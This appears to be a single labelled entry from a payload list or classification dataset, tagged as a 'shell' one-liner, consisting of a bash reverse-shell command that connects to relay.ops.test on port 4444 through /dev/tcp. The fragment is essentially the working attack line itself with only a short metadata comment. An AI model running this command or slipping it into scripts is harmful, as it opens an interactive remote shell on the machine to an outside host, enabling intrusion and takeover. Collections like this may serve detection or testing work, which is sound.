# class: shell; possible: low medium; style: one-liner
bash -i >& /dev/tcp/relay.ops.test/4444 0>&1
